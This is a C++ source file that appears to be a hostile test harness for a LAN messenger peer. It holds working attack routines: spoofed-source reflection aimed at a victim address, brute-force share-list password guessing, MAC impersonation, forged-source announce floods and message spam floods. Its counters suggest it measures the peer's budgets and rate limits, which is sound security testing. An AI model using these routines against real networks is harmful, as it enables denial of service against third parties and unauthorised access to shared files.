#include "hostile_netbudget.h"

#include "hostile.h"

#include "core/Password.h"
#include "net/Commands.h"
#include "net/PacketCodec.h"
#include "net/ShareList.h"

#include <QCoreApplication>
#include <QDeadlineTimer>
#include <QElapsedTimer>
#include <QHostAddress>
#include <QRandomGenerator>
#include <QSet>
#include <QUdpSocket>

#include <algorithm>
#include <memory>
#include <vector>

namespace {

bool sink(const QStringList &words, const std::function<void(const QString &)> &report)
{
    const quint16 first = quint16(words.value(1).toUInt());
    const int count = qBound(1, words.value(2).toInt(), 1000);
    const int seconds = qBound(1, words.value(3).toInt(), 600);
    std::vector<std::unique_ptr<QUdpSocket>> sockets;
    for (int i = 0; i < count; ++i) {
        auto s = std::make_unique<QUdpSocket>();
        if (!s->bind(QHostAddress(QHostAddress::AnyIPv4), quint16(first + i)))
            return false;
        sockets.push_back(std::move(s));
    }
    qint64 bytes = 0, packets = 0;
    for (QDeadlineTimer t(qint64(seconds) * 1000); !t.hasExpired();) {
        QCoreApplication::processEvents(QEventLoop::AllEvents, 5);
        for (auto &s : sockets) {
            while (s->hasPendingDatagrams()) {
                const qint64 n = s->pendingDatagramSize();
                QByteArray data(qMax<qint64>(n, 0), Qt::Uninitialized);
                if (s->readDatagram(data.data(), data.size()) < 0)
                    break;
                bytes += n;
                ++packets;
            }
        }
        sockets.front()->waitForReadyRead(5);
    }
    report(QStringLiteral("SINK bytes %1 packets %2").arg(bytes).arg(packets));
    return true;
}

bool reflect(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const quint32 victim = QHostAddress(words.value(1)).toIPv4Address();
    const quint16 first = quint16(words.value(2).toUInt());
    const int count = qBound(1, words.value(3).toInt(), 1000);
    const QString kind = words.value(4);
    qint64 sent = 0, packets = 0;
    for (int i = 0; i < count; ++i) {
        ForgedPeer peer(victim, quint16(first + i), target, port, QStringLiteral("forged%1").arg(i));
        if (!peer.isOpen())
            return false;
        if (kind != QLatin1String("small"))
            peer.send(CMD_ANNOUNCE_ENTRY, "forged");
        if (kind == QLatin1String("storedpic")) {
            const quint32 id = words.value(5).toUInt(nullptr, 16);
            const QByteArray header
                = QStringLiteral("%1|4096000|0|8000|1|512|1|0|0|00000000#").arg(id, 8, 16, QLatin1Char('0')).toLatin1();
            peer.send(CMD_PICTURE_DATA | OPT_FILE_ATTACH, header, QByteArray(512, 'x'));
        } else if (kind == QLatin1String("ownpic")) {
            peer.send(CMD_GET_PICTURE, "0");
            peer.send(CMD_GET_CUSTOM_PICTURE, "0");
        } else if (kind == QLatin1String("shares")) {
            peer.send(CMD_GET_SHARE_LIST, {});
            peer.send(CMD_GET_ALL_SHARES, {});
        } else if (kind == QLatin1String("small")) {
            const QList<QPair<quint32, QByteArray>> requests = {
                { CMD_MESSAGE_OPENED | OPT_READ_CHECK, "1" }, { CMD_ANNOUNCE_ENTRY, "x" },
                { CMD_SEND_MESSAGE | OPT_SEND_CHECK, "hi" }, { CMD_GET_INFO, "" }, { CMD_GET_ABSENCE_INFO, "" },
                { CMD_GET_PUBLIC_KEY, "21003" }, { CMD_GET_SHARE_LIST, "" }, { CMD_GET_SHARE_LIST_PASSWORD, "wrong" },
            };
            for (const auto &[command, body] : requests)
                peer.send(command, body);
        } else {
            return false;
        }
        sent += peer.sent();
        packets += peer.packets();
        if (i % 8 == 7)
            PumpEvents(2);
    }
    report(QStringLiteral("REFLECT %1 sent %2 packets %3").arg(kind).arg(sent).arg(packets));
    return true;
}

bool guess(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const int n = qBound(1, words.value(1).toInt(), 100000);
    RawPeer peer(target, port, QStringLiteral("guesser"));
    if (!peer.isOpen() || !peer.announce())
        return false;
    QElapsedTimer clock;
    clock.start();
    for (int i = 0; i < n; ++i) {
        peer.send(CMD_GET_SHARE_LIST_PASSWORD, ScramblePassword(QStringLiteral("guess%1").arg(i)));
        if (i % 32 == 31)
            peer.collect(1);
    }
    peer.collect(1500);
    const auto counted = [&](const char *text) {
        return std::count_if(peer.answers().cbegin(), peer.answers().cend(), [&](const PacketRecord &p) {
            return p.command() == CMD_SHARE_LIST && p.bodyText() == QLatin1String(text);
        });
    };
    const auto wrong = counted(ShareList::kWrongPassword);
    const auto lists = std::count_if(peer.answers().cbegin(), peer.answers().cend(),
        [](const PacketRecord &p) { return p.command() == CMD_SHARE_LIST; }) - wrong;
    peer.reset();
    peer.send(CMD_GET_SHARE_LIST_PASSWORD, ScramblePassword(words.value(2)));
    peer.collect(1500);
    report(QStringLiteral("GUESS sent %1 wrong %2 lists %3 right-after %4 ms %5")
               .arg(n)
               .arg(wrong)
               .arg(lists)
               .arg(peer.answers().size())
               .arg(clock.elapsed()));
    return true;
}

bool macclaim(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    RawPeer peer(target, port, QStringLiteral("claimer"));
    peer.setMac(words.value(1));
    if (!peer.isOpen() || !peer.announce())
        return false;
    peer.send(CMD_GET_SHARE_LIST, {});
    peer.collect(1500);
    QString what = QStringLiteral("none");
    for (const PacketRecord &p : peer.answers())
        if (p.command() == CMD_SHARE_LIST)
            what = p.bodyText() == QLatin1String(ShareList::kNeedPassword) ? QStringLiteral("need-password")
                                                                             : QStringLiteral("list");
    report(QStringLiteral("MACCLAIM %1").arg(what));
    return true;
}

bool receiver(quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    RawPeer peer(target, port, QStringLiteral("receiver"));
    if (!peer.isOpen() || !peer.announce())
        return false;
    peer.send(CMD_GET_PICTURE, "0");
    peer.collect(3000);
    const auto chunks = std::count_if(peer.answers().cbegin(), peer.answers().cend(),
        [](const PacketRecord &p) { return p.command() == CMD_HEAD_PICTURE_DATA || p.command() == CMD_PICTURE_DATA; });
    report(QStringLiteral("RECEIVER chunks %1 bytes %2").arg(chunks).arg(peer.bytesIn()));
    return true;
}

bool entryflood(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const int seconds = qBound(1, words.value(1).toInt(), 120);
    const int rate = qBound(1, words.value(2).toInt(), 100000);
    QElapsedTimer clock;
    clock.start();
    qint64 n = 0, sent = 0;
    while (clock.elapsed() < qint64(seconds) * 1000) {
        const qint64 due = clock.elapsed() * rate / 1000;
        for (; n < due; ++n) {
            const bool own = n % 10 == 9;
            const quint32 from = own ? 0 : 0x0A630000u + quint32(1 + QRandomGenerator::global()->bounded(65534));
            // (our own 2425 is taken by kwelpeer itself)
            ForgedPeer peer(from, quint16(20000 + n % 40000), target, port, QStringLiteral("flood%1").arg(n));
            if (peer.send(CMD_ANNOUNCE_ENTRY | OPT_FILE_ATTACH, QStringLiteral("flood%1").arg(n).toUtf8()) > 0)
                ++sent;
        }
        PumpEvents(1);
    }
    report(QStringLiteral("ENTRYFLOOD sent %1").arg(sent));
    return true;
}

bool unheldflood(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const quint32 first = QHostAddress(words.value(1)).toIPv4Address();
    const int count = qBound(1, words.value(2).toInt(), 65536);
    const int seconds = qBound(1, words.value(3).toInt(), 60);
    const int rate = qBound(1, words.value(4).toInt(), 10000);
    // Entries of about 120 bytes: no smaller than the answer, so each is
    // answered for free.
    constexpr qsizetype kBodyBytes = 60;
    QElapsedTimer clock;
    clock.start();
    qint64 n = 0, sent = 0, bytes = 0;
    while (clock.elapsed() < qint64(seconds) * 1000) {
        for (const qint64 due = clock.elapsed() * rate / 1000; n < due; ++n) {
            const QString name = QStringLiteral("unheld%1").arg(n);
            // A new source port each (our own 2425 is taken by kwelpeer itself).
            ForgedPeer peer(first + quint32(n % count), quint16(20000 + n % 40000), target, port, name);
            QByteArray body = name.toUtf8();
            body.append(QByteArray(std::max<qsizetype>(1, kBodyBytes - body.size()), 'x'));
            const qint64 size = peer.send(CMD_ANNOUNCE_ENTRY | OPT_FILE_ATTACH, body);
            sent += size > 0;
            bytes += size;
        }
        PumpEvents(1);
    }
    report(QStringLiteral("UNHELDFLOOD sent %1 bytes %2").arg(sent).arg(bytes));
    return true;
}

bool entrytime(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const int seconds = qBound(1, words.value(1).toInt(), 120);
    int tries = 0, answered = 0;
    qint64 worst = 0;
    QStringList times;
    QElapsedTimer whole;
    whole.start();
    while (whole.elapsed() < qint64(seconds) * 1000) {
        RawPeer peer(target, port, QStringLiteral("newcomer%1").arg(tries++));
        QElapsedTimer clock;
        clock.start();
        peer.send(CMD_ANNOUNCE_ENTRY, "newcomer");
        qint64 took = -1;
        while (took < 0 && clock.elapsed() < 3000) {
            peer.collect(10);
            for (const PacketRecord &p : peer.answers())
                if (p.command() == CMD_ANSWER_ENTRY)
                    took = clock.elapsed();
        }
        times.append(QString::number(took));
        if (took >= 0) {
            ++answered;
            worst = std::max(worst, took);
        } else {
            worst = std::max<qint64>(worst, 3000);
        }
        PumpEvents(int(std::max<qint64>(0, 500 - clock.elapsed())));
    }
    report(QStringLiteral("ENTRYTIME tries %1 answered %2 max-ms %3 each %4")
               .arg(tries)
               .arg(answered)
               .arg(worst)
               .arg(times.join(QLatin1Char(','))));
    return true;
}

bool spamflood(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const int n = qBound(0, words.value(1).toInt(), 10000);
    const QByteArray text = words.value(2).toUtf8();
    RawPeer peer(target, port, QStringLiteral("spammer"), 0, quint16(words.value(3).toUInt()));
    if (!peer.isOpen() || !peer.announce())
        return false;
    peer.send(CMD_GET_SHARE_LIST, {});
    peer.collect(500);
    peer.reset();
    QSet<quint32> receipted;
    qsizetype seen = 0;
    QElapsedTimer clock;
    clock.start();
    // Numbers from the fifth word (a later run's are not copies of these).
    const quint32 first = words.size() > 4 ? words.value(4).toUInt() : 7000000;
    for (int group = 0; group < n; group += 20) {
        const int end = std::min(n, group + 20);
        const auto done = [&] {
            for (int i = group; i < end; ++i)
                if (!receipted.contains(first + quint32(i)))
                    return false;
            return true;
        };
        // A real sender's pace: what is not receipted within 500 ms goes
        // again under its own number, 20 tries at most.
        for (int round = 0; round < 20 && !done(); ++round) {
            for (int i = group; i < end; ++i) {
                if (receipted.contains(first + quint32(i)))
                    continue;
                peer.setNumber(first + quint32(i) - 1);
                peer.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, text);
            }
            QElapsedTimer wait;
            wait.start();
            while (wait.elapsed() < 500 && !done()) {
                peer.collect(10);
                for (; seen < peer.answers().size(); ++seen)
                    if (peer.answers().at(seen).command() == CMD_MESSAGE_RECEIVED)
                        receipted.insert(EchoedPacketNumber(peer.answers().at(seen)));
            }
        }
    }
    peer.collect(1500);
    const auto replies = std::count_if(peer.answers().cbegin(), peer.answers().cend(), [](const PacketRecord &p) {
        return p.command() == CMD_SEND_MESSAGE && p.hasOption(OPT_AUTO_RETURN);
    });
    report(QStringLiteral("SPAMFLOOD sent %1 receipted %2 replies %3 ms %4")
               .arg(n)
               .arg(receipted.size())
               .arg(replies)
               .arg(clock.elapsed()));
    return true;
}

} // namespace

std::optional<bool> RunBudgetAttack(
    const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const QString attack = words.value(0);
    if (attack == QLatin1String("sink"))
        return sink(words, report);
    if (attack == QLatin1String("reflect"))
        return reflect(words, target, port, report);
    if (attack == QLatin1String("guess"))
        return guess(words, target, port, report);
    if (attack == QLatin1String("macclaim"))
        return macclaim(words, target, port, report);
    if (attack == QLatin1String("receiver"))
        return receiver(target, port, report);
    if (attack == QLatin1String("entryflood"))
        return entryflood(words, target, port, report);
    if (attack == QLatin1String("unheldflood"))
        return unheldflood(words, target, port, report);
    if (attack == QLatin1String("entrytime"))
        return entrytime(words, target, port, report);
    if (attack == QLatin1String("spamflood"))
        return spamflood(words, target, port, report);
    return std::nullopt;
}
